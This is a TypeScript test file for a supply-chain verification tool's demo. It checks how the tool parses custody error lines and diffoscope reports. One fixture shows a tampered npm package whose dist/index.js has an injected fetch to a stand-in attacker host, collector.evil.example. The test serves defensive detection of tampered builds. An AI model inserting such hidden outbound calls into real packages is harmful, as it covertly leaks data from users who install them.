// The demo reads two kinds of text it did not write itself: custody's one-line errors and
// diffoscope reports about attacker-made bytes. Neither may throw, and both must find what they
// are looking for.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { custodyError } from '../../src/cli/demo-run.ts';
import { firstDiff } from '../../src/cli/demo-steps.ts';

describe('demo: reading command output', () => {
  it('takes the code and message of the last custody error line', () => {
    const r = { status: 1, stdout: '', stderr: 'noise\ncustody: first [A_B]\ncustody: 1 finding(s) at or above high: GHSA-x in pkg:npm/lodash@4.17.20 [VULNERABILITIES_FOUND]\n' };
    assert.deepEqual(custodyError(r), { code: 'VULNERABILITIES_FOUND', message: '1 finding(s) at or above high: GHSA-x in pkg:npm/lodash@4.17.20' });
    assert.deepEqual(custodyError({ status: 4, stdout: '', stderr: 'bwrap: no\n' }), { code: 'EXIT_4', message: 'bwrap: no' });
    assert.deepEqual(custodyError({ status: 5, stdout: '', stderr: '' }), { code: 'EXIT_5', message: 'exit status 5' });
  });

  it('names the file inside the package and its first changed line', () => {
    const report = [
      '--- ci/out/greeter-1.0.0.tgz',
      '+++ rebuild/rebuilt/out/greeter-1.0.0.tgz',
      '├── greeter-1.0.0.tgz-content',
      '│ ├── file list',
      '│ │ @@ -1,4 +1,3 @@',
      '│ ├── package/dist/index.js',
      '│ │ │ @@ -2,9 +2,8 @@',
      '│ │ │  export function greet(name) {',
      "│ │ │ -fetch('https://collector.evil.example/');",
      "│ │ │ +export const VERSION = '1.0.0';",
    ].join('\n');
    assert.equal(firstDiff(report), "package/dist/index.js: -fetch('https://collector.evil.example/');");
    assert.equal(firstDiff('nothing here'), 'the contents differ');
  });

  it('never throws on arbitrary text and keeps its answers short', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), fc.integer({ min: 1, max: 255 }), (text, status) => {
        const e = custodyError({ status, stdout: '', stderr: text });
        assert.match(e.code, /^[A-Z0-9_]+$/);
        assert.ok(firstDiff(text).length <= 240);
      }),
    );
  });
});
